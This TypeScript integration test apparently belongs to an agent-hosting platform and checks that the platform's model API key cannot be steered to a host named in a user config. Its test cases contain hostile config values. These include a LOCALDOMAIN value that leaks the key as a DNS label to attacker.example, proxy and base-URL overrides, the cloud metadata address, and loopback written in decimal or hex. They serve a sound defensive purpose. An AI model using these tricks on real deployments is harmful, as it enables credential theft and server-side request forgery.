/**
 * The platform's model key never reaches a host a config names. Through the control plane
 * (the whole app, against the real API server and MinIO), every path closed by the config
 * rules is tried and refused with a 422 naming the rule; the configs that are accepted are
 * deployed, their Deployments read back from the cluster, and each one is then run for real:
 * the agent runtime's bundle, started with exactly the env its pod would get (Secrets
 * resolved from the cluster) and its ConfigMap's config, answering a /generate through the
 * real `openai` SDK. Three OpenAI-compatible servers listen: the platform's, one the platform
 * allow-lists, and a capture server standing for a user-named host. The capture server sees
 * the agent's own key and never the platform's.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { AppsV1Api, CoreV1Api, KubeConfig, NetworkingV1Api, type V1EnvVar } from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bundleRuntime } from '../../agent-runtime/build.ts';
import { testEnv } from '../env/inject.ts';
import { harness } from '../support/control-plane-harness.ts';
import { type FakeLlm, startFakeLlm } from '../support/fake-llm.ts';
import { kubeletEnv } from '../support/kubelet-env.ts';
import { scratchDir } from '../support/scratch.ts';

const PLATFORM_KEY = `sk-platform-${randomBytes(12).toString('hex')}`;
const OWN_KEY = `sk-own-${randomBytes(12).toString('hex')}`;
/** Dotted on purpose: the naming rule alone would give it to an agent named "kt-platform". */
const PROVIDER_SECRET = 'kt-platform.provider';
const OWN_SECRET = 'kt-own.llm';
/** A host of the user's choosing: in the cluster, only https:// leaves for the internet. */
const CAPTURE_HOST_URL = 'https://capture.example/v1';

let platformLlm: FakeLlm;
let allowedLlm: FakeLlm;
let capture: FakeLlm;
const children: ChildProcess[] = [];

function admin() {
  const config = new KubeConfig();
  config.loadFromFile(testEnv().kubeconfigPath);
  return { core: config.makeApiClient(CoreV1Api), apps: config.makeApiClient(AppsV1Api) };
}

beforeAll(async () => {
  platformLlm = await startFakeLlm({ apiKey: PLATFORM_KEY });
  allowedLlm = await startFakeLlm({ apiKey: PLATFORM_KEY });
  capture = await startFakeLlm();
  STAND_INS.set(CAPTURE_HOST_URL, () => capture.baseURL);
  const { core } = admin();
  const namespace = testEnv().namespace;
  for (const [name, data] of [
    [PROVIDER_SECRET, { OPENAI_API_KEY: PLATFORM_KEY }],
    [OWN_SECRET, { key: OWN_KEY }],
  ] as const) {
    await core.deleteNamespacedSecret({ name, namespace }).catch(() => {});
    await core.createNamespacedSecret({ namespace, body: { metadata: { name }, stringData: data } });
  }
});

afterAll(async () => {
  for (const child of children) if (child.exitCode === null) child.kill('SIGKILL');
  await Promise.all([platformLlm?.close(), allowedLlm?.close(), capture?.close()]);
  const { core } = admin();
  for (const name of [PROVIDER_SECRET, OWN_SECRET])
    await core.deleteNamespacedSecret({ name, namespace: testEnv().namespace }).catch(() => {});
});

/**
 * The pod's env as the kubelet would build it: Secret keys read from the cluster, and values
 * expanded as Kubernetes expands them (`$(NAME)` to an earlier variable, `$$` to `$`).
 */
async function resolvedEnv(env: V1EnvVar[]): Promise<Record<string, string>> {
  const { core } = admin();
  const items: Parameters<typeof kubeletEnv>[0] = [];
  for (const item of env) {
    const ref = item.valueFrom?.secretKeyRef;
    if (ref) {
      const secret = await core.readNamespacedSecret({
        name: ref.name as string,
        namespace: testEnv().namespace,
      });
      const fromSource = Buffer.from(secret.data?.[ref.key] ?? '', 'base64').toString('utf8');
      items.push({ name: item.name, fromSource });
    } else items.push({ name: item.name, value: item.value ?? '' });
  }
  return kubeletEnv(items);
}

/** Runs the agent the cluster holds: its Deployment's env and its ConfigMap's config, on loopback. */
/**
 * Where a public https:// host a config names is served here: the capture server on loopback.
 * Neither the cluster's DNS nor a certificate for it can run in the test, so the process gets
 * the loopback URL in place of exactly that one base URL; everything else is the pod's env.
 */
const STAND_INS = new Map<string, () => string>();

async function runAsItsPodWould(agent: string, bundlePath: string): Promise<string> {
  const { core, apps } = admin();
  const namespace = testEnv().namespace;
  const deployment = await apps.readNamespacedDeployment({ name: agent, namespace });
  const configMap = await core.readNamespacedConfigMap({ name: `${agent}-config`, namespace });
  const dir = await scratchDir('fp-key-');
  const configPath = join(dir, 'agent.json');
  await writeFile(configPath, configMap.data?.['agent.json'] ?? '');
  const env = await resolvedEnv(deployment.spec?.template.spec?.containers[0]?.env ?? []);
  const standIn = env.OPENAI_BASE_URL && STAND_INS.get(env.OPENAI_BASE_URL);
  if (standIn) env.OPENAI_BASE_URL = standIn();
  const child = spawn(process.execPath, [bundlePath], {
    env: {
      PATH: process.env.PATH ?? '',
      ...env,
      FLEETPLANE_AGENT_CONFIG: configPath,
      PORT: '0',
      HOST: '127.0.0.1',
    },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  children.push(child);
  const port = await new Promise<number>((resolve, reject) => {
    let buffer = '';
    child.stdout?.on('data', (data: Buffer) => {
      buffer += data.toString();
      for (const line of buffer.split('\n').slice(0, -1)) {
        const parsed = JSON.parse(line);
        if (parsed.msg === 'listening') resolve(parsed.port);
      }
      buffer = buffer.slice(buffer.lastIndexOf('\n') + 1);
    });
    child.once('exit', (code) => reject(new Error(`${agent} exited with ${code} before listening`)));
  });
  const response = await fetch(`http://127.0.0.1:${port}/${agent}/generate`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ prompt: `hello from ${agent}` }),
  });
  expect(response.status, `${agent}: ${await response.clone().text()}`).toBe(200);
  child.kill('SIGTERM');
  return ((await response.json()) as { text: string }).text;
}

describe("the platform's key goes only to the platform's base URLs", () => {
  const setup = () =>
    harness({
      FLEETPLANE_OPENAI_BASE_URL: platformLlm.baseURL,
      FLEETPLANE_ALLOWED_BASE_URLS: allowedLlm.baseURL,
      FLEETPLANE_PROVIDER_SECRET: PROVIDER_SECRET,
    });
  const secret = (name: string, key = 'OPENAI_API_KEY') => ({ name, key });

  it('refuses every way a config could take it elsewhere, with a 422 naming the field and the rule', async () => {
    const { call, providers } = setup();
    const captureUrl = capture.baseURL;
    const attacks: [string, unknown, string, RegExp][] = [
      [
        'the key printed by Node through NODE_EXTRA_CA_CERTS',
        { name: 'kt-x', env: [{ name: 'NODE_EXTRA_CA_CERTS', secretRef: secret('fleetplane-provider') }] },
        'env[0].name',
        /NODE_EXTRA_CA_CERTS is reserved: names matching NODE_\*/,
      ],
      [
        'the same, the Secret refused as well',
        { name: 'kt-x', env: [{ name: 'NODE_EXTRA_CA_CERTS', secretRef: secret('fleetplane-provider') }] },
        'env[0].secretRef.name',
        /own Secrets.*"<agent-name>.<anything>".*\(got "fleetplane-provider"\)/,
      ],
      [
        'the platform key read into a variable of its own',
        { name: 'kt-x', env: [{ name: 'LEAK', secretRef: secret(PROVIDER_SECRET) }] },
        'env[0].secretRef.name',
        /own Secrets.*\(got "kt-platform.provider"\)/,
      ],
      [
        'an agent named after the platform Secret’s first label',
        { name: 'kt-platform', env: [{ name: 'LEAK', secretRef: secret(PROVIDER_SECRET) }] },
        'env[0].secretRef.name',
        /must not name one of the platform's own Secrets/,
      ],
      [
        'a base URL through env',
        { name: 'kt-x', env: [{ name: 'OPENAI_BASE_URL', value: captureUrl }] },
        'env[0].name',
        /OPENAI_BASE_URL is reserved: names matching OPENAI_\*/,
      ],
      [
        'a base URL through lower-case env',
        { name: 'kt-x', env: [{ name: 'openai_base_url', value: captureUrl }] },
        'env[0].name',
        /reserved: names matching OPENAI_\*/,
      ],
      [
        'a proxy in front of the model call',
        { name: 'kt-x', env: [{ name: 'HTTPS_PROXY', value: captureUrl }] },
        'env[0].name',
        /reserved: names matching \*_PROXY/,
      ],
      [
        'a base URL of its own without a key',
        { name: 'kt-x', provider: { baseUrl: captureUrl } },
        'provider.apiKey',
        /is required with this provider.baseUrl: the platform's model key is sent only to the platform's base URLs/,
      ],
      [
        'a base URL that only starts like the platform’s',
        { name: 'kt-x', provider: { baseUrl: `${platformLlm.baseURL}.capture` } },
        'provider.apiKey',
        /is required with this provider.baseUrl/,
      ],
      [
        'a base URL of its own with the platform’s Secret as its key',
        { name: 'kt-x', provider: { baseUrl: captureUrl, apiKey: secret(PROVIDER_SECRET) } },
        'provider.apiKey.name',
        /own Secrets/,
      ],
      [
        'the same from an agent named after the Secret',
        { name: 'kt-platform', provider: { baseUrl: captureUrl, apiKey: secret(PROVIDER_SECRET) } },
        'provider.apiKey.name',
        /must not name one of the platform's own Secrets/,
      ],
      [
        'the platform key as the agent’s key hashes',
        { name: 'kt-x', auth: { apiKeyHashes: secret(PROVIDER_SECRET) } },
        'auth.apiKeyHashes.name',
        /own Secrets/,
      ],
      [
        'the key as a DNS label: the resolver searches every name under LOCALDOMAIN (issue 18)',
        { name: 'kt-x', env: [{ name: 'LOCALDOMAIN', value: '$(OPENAI_API_KEY).x.attacker.example' }] },
        'env[0].name',
        /LOCALDOMAIN is reserved: names matching LOCALDOMAIN may not be set .*how host names resolve/,
      ],
      [
        'resolver options of its own',
        { name: 'kt-x', env: [{ name: 'RES_OPTIONS', value: 'ndots:15' }] },
        'env[0].name',
        /RES_OPTIONS is reserved/,
      ],
      [
        'host aliases of its own',
        { name: 'kt-x', env: [{ name: 'HOSTALIASES', value: '/tmp/aliases' }] },
        'env[0].name',
        /HOSTALIASES is reserved/,
      ],
      [
        'the metadata service as a model',
        {
          name: 'kt-x',
          provider: { baseUrl: 'http://169.254.169.254/v1', apiKey: secret('kt-x.llm', 'key') },
        },
        'provider.baseUrl',
        /must not name a link-local address .*\(got "http:\/\/169.254.169.254\/v1"\)/,
      ],
      [
        'loopback written as a decimal number',
        {
          name: 'kt-x',
          provider: { baseUrl: 'http://2130706433:8080/v1', apiKey: secret('kt-x.llm', 'key') },
        },
        'provider.baseUrl',
        /must not name a loopback address/,
      ],
      [
        'a private address written in hex',
        { name: 'kt-x', provider: { baseUrl: 'http://0xa.0.0.1/v1', apiKey: secret('kt-x.llm', 'key') } },
        'provider.baseUrl',
        /must not name a private address/,
      ],
      [
        'plain http to a host of its own, which a search domain could make an attacker’s',
        {
          name: 'kt-x',
          provider: {
            baseUrl: 'http://vllm.models.svc.attacker.example:8000/v1',
            apiKey: secret('kt-x.llm', 'key'),
          },
        },
        'provider.baseUrl',
        /must use https:\/\/ unless the platform lists it/,
      ],
      [
        'a base URL with credentials',
        { name: 'kt-x', provider: { baseUrl: captureUrl.replace('http://', 'http://user:pw@') } },
        'provider.baseUrl',
        /must not carry credentials/,
      ],
    ];
    for (const [what, config, path, message] of attacks) {
      const { status, json } = await call('POST', '/deploy', config);
      expect(status, what).toBe(422);
      const error = (json.errors as { path: string; message: string }[]).find((e) => e.path === path);
      expect(error?.message, `${what}: ${JSON.stringify(json.errors)}`).toMatch(message);
    }
    // One refused agent refuses its whole batch.
    const batch = await call('POST', '/deploy', {
      agents: [{ name: 'kt-fine' }, { name: 'kt-x', provider: { baseUrl: captureUrl } }],
    });
    expect(batch.status).toBe(422);
    expect(await (await providers.store()).list()).toEqual([]);
  });

  it('never expands $(OPENAI_API_KEY) in an env value: the API server stores it literal, the pod gets it as written', async () => {
    const { call } = setup();
    const written = '$(OPENAI_API_KEY).x.attacker.example';
    const deployed = await call('POST', '/deploy', {
      name: 'kt-leaky',
      env: [{ name: 'GREETING', value: written }],
    });
    expect(deployed.status, JSON.stringify(deployed.json)).toBe(201);
    const { apps } = admin();
    const stored = await apps.readNamespacedDeployment({ name: 'kt-leaky', namespace: testEnv().namespace });
    const env = stored.spec?.template.spec?.containers[0]?.env ?? [];
    expect(env.find((item) => item.name === 'GREETING')?.value).toBe('$$(OPENAI_API_KEY).x.attacker.example');
    // The platform's key is defined before GREETING: unescaped, the kubelet would put it there.
    expect(env.findIndex((item) => item.name === 'OPENAI_API_KEY')).toBeLessThan(
      env.findIndex((item) => item.name === 'GREETING'),
    );
    const podEnv = await resolvedEnv(env);
    expect(podEnv.OPENAI_API_KEY).toBe(PLATFORM_KEY);
    expect(podEnv.GREETING).toBe(written);
    expect(Object.values(podEnv).filter((value) => value.includes(PLATFORM_KEY))).toEqual([PLATFORM_KEY]);
    expect((await call('DELETE', '/deployments/kt-leaky')).status).toBe(200);
  });

  it('pairs it only with those base URLs in the cluster, and the capture server never sees it', async () => {
    const { call } = setup();
    const deployed = await call('POST', '/deploy', {
      agents: [
        { name: 'kt-plain' },
        { name: 'kt-allowed', provider: { baseUrl: allowedLlm.baseURL } },
        { name: 'kt-own', provider: { baseUrl: CAPTURE_HOST_URL, apiKey: { name: OWN_SECRET, key: 'key' } } },
      ],
    });
    expect(deployed.status, JSON.stringify(deployed.json)).toBe(201);

    // Every Deployment in the namespace, ours and other tests': wherever the platform's
    // Secret appears, it is OPENAI_API_KEY beside one of the platform's base URLs.
    const { apps } = admin();
    const all = await apps.listNamespacedDeployment({ namespace: testEnv().namespace });
    let pairings = 0;
    for (const deployment of all.items)
      for (const container of deployment.spec?.template.spec?.containers ?? []) {
        const env = container.env ?? [];
        const usesPlatformKey = env.filter((item) => item.valueFrom?.secretKeyRef?.name === PROVIDER_SECRET);
        if (!usesPlatformKey.length) continue;
        pairings++;
        expect(usesPlatformKey.map((item) => item.name)).toEqual(['OPENAI_API_KEY']);
        const baseUrl = env.find((item) => item.name === 'OPENAI_BASE_URL')?.value;
        expect([platformLlm.baseURL, allowedLlm.baseURL]).toContain(baseUrl);
      }
    expect(pairings).toBe(2);

    // And the NetworkPolicy the API server holds keeps the agent out of the cluster's ranges.
    const networking = (() => {
      const config = new KubeConfig();
      config.loadFromFile(testEnv().kubeconfigPath);
      return config.makeApiClient(NetworkingV1Api);
    })();
    const policy = await networking.readNamespacedNetworkPolicy({
      name: 'kt-own',
      namespace: testEnv().namespace,
    });
    expect(policy.spec?.egress?.[0]).toEqual({
      to: [
        {
          namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'kube-system' } },
          podSelector: { matchLabels: { 'k8s-app': 'kube-dns' } },
        },
      ],
      ports: [
        { protocol: 'UDP', port: 53 },
        { protocol: 'TCP', port: 53 },
      ],
    });
    expect(policy.spec?.egress?.[1]).toEqual({
      to: [
        {
          ipBlock: {
            cidr: '0.0.0.0/0',
            except: ['10.0.0.0/8', '172.16.0.0/12', '192.168.0.0/16', '100.64.0.0/10', '169.254.0.0/16'],
          },
        },
      ],
      ports: [{ protocol: 'TCP', port: 443 }],
    });
    expect(policy.spec?.egress).toHaveLength(2);
    // The platform's own base URL is plain http on loopback here: no rule opens it to the internet.
    const plain = await networking.readNamespacedNetworkPolicy({
      name: 'kt-plain',
      namespace: testEnv().namespace,
    });
    expect(plain.spec?.egress?.[1]?.ports).toEqual([{ protocol: 'TCP', port: 443 }]);
    expect(policy.spec?.ingress?.[0]?._from).toEqual([
      { namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'ingress-nginx' } } },
    ]);

    const bundlePath = (await bundleRuntime()).path;
    for (const agent of ['kt-plain', 'kt-allowed', 'kt-own'])
      expect(await runAsItsPodWould(agent, bundlePath)).toContain(`hello from ${agent}`);

    const auth = (llm: FakeLlm) => llm.requests.map((request) => request.headers.authorization);
    expect(auth(platformLlm)).toEqual([`Bearer ${PLATFORM_KEY}`]);
    expect(auth(allowedLlm)).toEqual([`Bearer ${PLATFORM_KEY}`]);
    expect(auth(capture)).toEqual([`Bearer ${OWN_KEY}`]);
    expect(JSON.stringify(capture.requests)).not.toContain(PLATFORM_KEY);

    for (const agent of ['kt-plain', 'kt-allowed', 'kt-own'])
      expect((await call('DELETE', `/deployments/${agent}`)).status).toBe(200);
  });
});
